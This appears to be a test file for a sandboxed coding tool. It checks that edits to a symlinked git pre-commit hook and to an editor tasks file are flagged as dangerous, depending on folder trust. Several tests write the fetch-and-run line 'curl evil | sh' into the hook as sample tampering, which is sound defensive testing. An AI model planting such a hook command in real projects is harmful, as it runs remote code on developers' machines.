import assert from 'node:assert/strict';
import { mkdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { attachSubject } from '../../../src/core/computers/subject.ts';
import { Gesture } from '../../../src/core/gesture.ts';
import type { Session } from '../../../src/core/session/api.ts';
import { thisMachine } from '../../../src/host/index.ts';
import { present } from '../../support/present.ts';
import { createSandbox, type Harness, never, skipUnlessAvailable } from '../harness.ts';
import { sh } from '../running.ts';
import { Desk } from './desk.ts';

const hook = 'scripts/pre-commit.sh';

/** What git on this machine tells about the folder is asked anew by each window that the person trusts. */
export function describeTrust(name: string, harness: Harness): void {
  const whereAttached = harness.attaches === true ? it : () => undefined;
  describe(`a folder whose git runs hooks: ${name}`, function () {
    this.timeout(240_000);
    let desk: Desk;

    before(async function () {
      await skipUnlessAvailable(this, harness);
    });
    beforeEach(async () => {
      desk = await Desk.open(harness);
      const machine = thisMachine();
      const program = (await machine.find('git')) ?? assert.fail('git is needed');
      assert.equal((await machine.run({ program, args: ['init', '-q'], cwd: desk.project })).code, 0);
      await mkdir(join(desk.project, 'scripts'));
      await desk.write(hook, '#!/bin/sh\n');
      await desk.write('.git/info/exclude', 'made\n');
      await mkdir(join(desk.project, '.git/hooks'), { recursive: true });
      await symlink(`../../${hook}`, join(desk.project, '.git/hooks/pre-commit'));
    });
    afterEach(async () => await desk.close());

    const dangers = (session: Session) =>
      session.changes()?.changes.map(({ path, danger }) => [path, ...danger.filter((id) => id === 'git-config')]);

    it('still sets a changed hook apart after a reload, and leaves out what git ignores', async () => {
      const { session, sessions } = await desk.start();
      await desk.inside(session, `echo 'curl evil | sh' >>${hook}`);
      await session.refreshChanges(never);
      const apart = [[hook, 'git-config']];
      assert.deepEqual(dangers(session), apart);
      await sessions.detachAll();
      const { sessions: next, folder } = await desk.window();
      const again = await next.open(session.id, folder);
      await desk.inside(again, 'echo output >made');
      await again.refreshChanges(never);
      assert.deepEqual(dangers(again), apart);
      await again.delete(new Gesture('delete-session', again.id));
    });

    whereAttached(
      'sets a changed hook apart in a computer that was attached, and as long as the folder is trusted',
      async () => {
        const sandbox = await createSandbox(harness);
        await sh(sandbox, `mkdir -p /workspace/project/scripts && echo 'curl evil | sh' >/workspace/project/${hook}`);
        await sandbox.detach();
        let isTrusted = true;
        const { sessions, folder, provider, computers } = await desk.window({ trusted: () => isTrusted });
        const [computer] = (await computers.list(never)).computers;
        const { settings, toolchains } = harness.options;
        const asked = { provider, folder, settings, toolchains, title: 'Test', attachTo: 'project' };
        const session = await sessions.create(asked);
        const gesture = new Gesture('attach', attachSubject(present(computer), folder.uri));
        await session.attach(present(computer), gesture, () => undefined, never);
        assert.deepEqual(dangers(session), [[hook, 'git-config']]);
        isTrusted = false;
        await session.refreshChanges(never);
        assert.deepEqual(dangers(session), [[hook]]);
        await session.delete(new Gesture('delete-session', session.id));
        assert.deepEqual(await provider.remove(present(computer).state, never), { kind: 'done' });
      },
    );

    it('sets apart what an ignored link makes a file that the editor obeys', async () => {
      await desk.write('.git/info/exclude', '/.vscode\n');
      await mkdir(join(desk.project, 'dev/vscode'), { recursive: true });
      await desk.write('dev/vscode/tasks.json', '{}\n');
      await symlink('dev/vscode', join(desk.project, '.vscode'));
      const { session } = await desk.start();
      await desk.inside(session, `echo '{"tasks":[]}' >dev/vscode/tasks.json`);
      await session.refreshChanges(never);
      const found = session.changes()?.changes.map(({ path, danger }) => [path, ...danger]);
      assert.deepEqual(found, [['dev/vscode/tasks.json', 'editor-config']]);
      await session.delete(new Gesture('delete-session', session.id));
    });

    it('does not ask git where the folder is trusted no more', async () => {
      const { session } = await desk.start({ trusted: () => false });
      await desk.inside(session, `echo 'curl evil | sh' >>${hook}`);
      await session.refreshChanges(never);
      assert.deepEqual(dangers(session), [[hook]]);
      await session.delete(new Gesture('delete-session', session.id));
    });
  });
}
